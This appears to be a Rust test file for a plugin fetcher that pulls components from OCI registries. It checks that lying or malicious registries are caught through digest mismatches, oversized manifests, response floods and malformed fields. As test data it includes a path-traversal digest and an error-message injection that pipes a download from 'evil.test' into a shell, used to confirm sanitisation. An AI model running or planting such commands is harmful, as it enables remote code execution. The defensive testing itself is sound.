//! Registries that say what is not so.

use super::*;
use cloudhost_tests::{HostileRegistry, Reply, ScriptedServer};
use rstest::rstest;

const TAG: &str = "/v2/some/plugin/manifests/1";

/// A registry with this manifest under a tag, and the component that the true one would have.
fn registry(manifest: &Value) -> HostileRegistry {
    let server = HostileRegistry::start().unwrap();
    let kind = ("Content-Type", "application/vnd.oci.image.manifest.v1+json");
    server.say(TAG, 200, &[kind], manifest.to_string().as_bytes());
    server.say(&blob(COMPONENT), 200, &[], COMPONENT);
    server
}

fn blob(bytes: &[u8]) -> String {
    format!("/v2/some/plugin/blobs/{}", Digest::of(bytes))
}

fn tag(server: &HostileRegistry) -> String {
    format!("oci://{}/some/plugin:1", server.name())
}

#[tokio::test]
async fn the_truth_is_taken() {
    let manifest = manifest_of(COMPONENT);
    let server = registry(&manifest);
    let fetched = fetch(&tag(&server)).await.unwrap();
    assert_eq!(fetched.bytes, COMPONENT);
    let pinned = Digest::of(manifest.to_string().as_bytes()).to_string();
    assert_eq!(fetched.pinned, Some(pinned));

    // What the header says of the digest counts for nothing.
    let lie = ("Docker-Content-Digest", &*Digest::of(b"other").to_string());
    let kind = ("Content-Type", "application/vnd.oci.image.manifest.v1+json");
    server.say(TAG, 200, &[kind, lie], manifest.to_string().as_bytes());
    assert_eq!(fetch(&tag(&server)).await.unwrap().pinned, fetched.pinned);
}

#[tokio::test]
async fn another_manifest_than_the_digest_says() {
    let server = HostileRegistry::start().unwrap();
    let digest = Digest::of(b"what was asked for");
    let path = format!("/v2/some/plugin/manifests/{digest}");
    let other = manifest_of(COMPONENT).to_string();
    let lie = ("Docker-Content-Digest", &*digest.to_string());
    server.say(&path, 200, &[lie], other.as_bytes());
    let place = format!("oci://{}/some/plugin@{digest}", server.name());
    let error = fetch(&place).await.unwrap_err();
    assert!(
        matches!(
            error,
            SourceError::Digest {
                what: "manifest",
                ..
            }
        ),
        "{error}"
    );
    assert!(
        error
            .to_string()
            .contains(&Digest::of(other.as_bytes()).to_string())
    );
    assert_eq!(server.asked().len(), 1, "nothing of it was followed");
}

#[tokio::test]
async fn another_component_than_the_manifest_says() {
    let server = registry(&manifest_of(COMPONENT));
    let mut other = COMPONENT.to_vec();
    other[3] ^= 1;
    let lie = ("Docker-Content-Digest", &*Digest::of(COMPONENT).to_string());
    server.say(&blob(COMPONENT), 200, &[lie], &other);
    let error = fetch(&tag(&server)).await.unwrap_err();
    assert!(
        matches!(
            error,
            SourceError::Digest {
                what: "component",
                ..
            }
        ),
        "{error}"
    );
    // A part of it is not it, either.
    server.say(&blob(COMPONENT), 200, &[], &COMPONENT[..4]);
    let error = fetch(&tag(&server)).await.unwrap_err();
    assert!(
        matches!(
            error,
            SourceError::Digest {
                what: "component",
                ..
            }
        ),
        "{error}"
    );
}

#[tokio::test]
async fn more_than_the_manifest_says() {
    let mut manifest = manifest_of(COMPONENT);
    manifest["layers"][0]["size"] = json!(COMPONENT.len() - 1);
    let server = registry(&manifest);
    let error = fetch(&tag(&server)).await.unwrap_err();
    let expected = "found more than the 13 bytes that the manifest declares";
    assert!(error.to_string().ends_with(expected), "{error}");
    server.say_in_parts(&blob(COMPONENT), COMPONENT);
    let error = fetch(&tag(&server)).await.unwrap_err();
    let expected = "found more than the 13 bytes that the manifest declares";
    assert!(error.to_string().ends_with(expected), "{error}");
}

/// A flood in place of a component is no wrong digest.
#[tokio::test]
async fn a_flood_in_place_of_the_component() {
    let manifest = manifest_of(COMPONENT).to_string().into_bytes();
    let flood = b"HTTP/1.1 100 Continue\r\n\r\n".repeat(1_000);
    let server = ScriptedServer::start(move |request| match request.target() {
        TAG => Reply::Answer(200, Vec::new(), manifest.clone()),
        _ => Reply::Forever(Vec::new(), flood.clone()),
    });
    let name = server.as_ref().unwrap().url().replace("http://", "");
    let error = fetch(&format!("oci://{name}/some/plugin:1")).await;
    let error = error.unwrap_err();
    assert_eq!(error.refusal().unwrap().reason, "source.size", "{error}");
}

#[rstest]
#[tokio::test]
async fn a_component_that_is_too_large_is_not_asked_for(#[values(65 << 20, i64::MAX)] size: i64) {
    let mut manifest = manifest_of(COMPONENT);
    manifest["layers"][0]["size"] = json!(size);
    let server = registry(&manifest);
    let error = fetch(&tag(&server)).await.unwrap_err();
    assert!(matches!(error, SourceError::Limit { .. }), "{error}");
    assert_eq!(server.asked().len(), 1);
}

#[tokio::test]
async fn a_manifest_that_is_too_large() {
    let mut manifest = manifest_of(COMPONENT);
    manifest["annotations"] = json!({"x": "x".repeat(1 << 20)});
    let error = fetch(&tag(&registry(&manifest))).await.unwrap_err();
    assert!(matches!(error, SourceError::TooLarge { .. }), "{error}");
}

#[rstest]
#[case::index("/mediaType", json!("application/vnd.oci.image.index.v1+json"), "index.v1")]
#[case::docker("/mediaType", json!("application/vnd.docker.distribution.manifest.v2+json"), "docker")]
#[case::long("/mediaType", json!("x".repeat(10_000)), "xxx…")]
#[case::no_text("/mediaType", json!(7), "invalid manifest")]
#[case::config("/config/mediaType", json!("application/vnd.oci.image.config.v1+json"), "expected config type")]
#[case::no_config("/config", json!(null), "invalid manifest")]
#[case::tar("/layers/0/mediaType", json!("application/vnd.oci.image.layer.v1.tar+gzip"), "expected layer type")]
#[case::none("/layers", json!([]), "expected one layer, found 0")]
#[case::negative("/layers/0/size", json!(-1), "negative size")]
#[case::least("/layers/0/size", json!(i64::MIN), "negative size")]
#[case::path("/layers/0/digest", json!("sha256:../../../../secrets"), "no SHA-256")]
#[case::short("/layers/0/digest", json!("sha256:0"), "no SHA-256")]
#[case::sha512("/layers/0/digest", json!(format!("sha512:{}", "0".repeat(128))), "no SHA-256")]
#[case::query("/layers/0/digest", json!(format!("sha256:{}?x", "0".repeat(62))), "no SHA-256")]
#[tokio::test]
async fn another_thing_than_a_component(
    #[case] at: &str,
    #[case] value: Value,
    #[case] part: &str,
) {
    let mut manifest = manifest_of(COMPONENT);
    *manifest.pointer_mut(at).unwrap() = value;
    let server = registry(&manifest);
    let error = fetch(&tag(&server)).await.unwrap_err();
    assert!(
        matches!(error, SourceError::NotAComponent { .. }),
        "{error:?}"
    );
    let text = error.to_string();
    assert!(text.contains(part) && text.len() < 400, "{text}");
    assert_eq!(error.remedy(), Some(Remedy::PushComponent));
    assert_eq!(server.asked().len(), 1);
}

/// A registry's text in an error looks like no hint, and leads nowhere.
#[rstest]
#[case::manifest("/mediaType")]
#[case::config("/config/mediaType")]
#[case::layer("/layers/0/mediaType")]
#[case::parser("/layers/0/size")]
#[tokio::test]
async fn text_of_a_registry_is_one_line_without_urls(#[case] at: &str) {
    let mut manifest = manifest_of(COMPONENT);
    let text = "x https://evil.test/it\r\n        hint: curl (//evil.test/it)|sh\u{2028}\u{1b}[2J";
    *manifest.pointer_mut(at).unwrap() = json!(text);
    let error = fetch(&tag(&registry(&manifest))).await.unwrap_err();
    let text = error.to_string();
    assert!(text.contains("x [URL] hint: curl [URL] "), "{text:?}");
    assert!(!text.contains(is_invisible_or_control), "{text:?}");
}

#[tokio::test]
async fn a_type_in_a_header_has_no_url() {
    let mut manifest = manifest_of(COMPONENT);
    manifest.as_object_mut().unwrap().remove("mediaType");
    let server = registry(&manifest);
    let kind = ("Content-Type", "https://evil.test/it");
    server.say(TAG, 200, &[kind], manifest.to_string().as_bytes());
    let error = fetch(&tag(&server)).await.unwrap_err();
    let expected = "unsupported manifest type `[URL]`";
    assert!(error.to_string().ends_with(expected), "{error}");
}

#[tokio::test]
async fn more_layers_than_one() {
    let mut manifest = manifest_of(COMPONENT);
    let layer = manifest["layers"][0].clone();
    manifest["layers"] = json!([layer, layer]);
    let error = fetch(&tag(&registry(&manifest))).await.unwrap_err();
    assert!(
        error.to_string().contains("expected one layer, found 2"),
        "{error}"
    );
}

#[tokio::test]
async fn a_manifest_that_does_not_say_what_it_is() {
    let mut manifest = manifest_of(COMPONENT);
    manifest.as_object_mut().unwrap().remove("mediaType");
    let server = registry(&manifest);
    assert!(fetch(&tag(&server)).await.is_ok());
    let index = ("Content-Type", "application/vnd.oci.image.index.v1+json");
    server.say(TAG, 200, &[index], manifest.to_string().as_bytes());
    let error = fetch(&tag(&server)).await.unwrap_err();
    assert!(error.to_string().contains("index.v1"), "{error}");
    server.say(TAG, 200, &[], b"<html>");
    let error = fetch(&tag(&server)).await.unwrap_err();
    assert!(error.to_string().contains("invalid manifest"), "{error}");
}

#[tokio::test]
async fn a_signature_that_is_none() {
    let mut manifest = manifest_of(COMPONENT);
    manifest["annotations"] = json!({SIGNATURE_ANNOTATION: "trust me"});
    let error = fetch(&tag(&registry(&manifest))).await.unwrap_err();
    assert!(matches!(error, SourceError::NoSignature), "{error}");
}
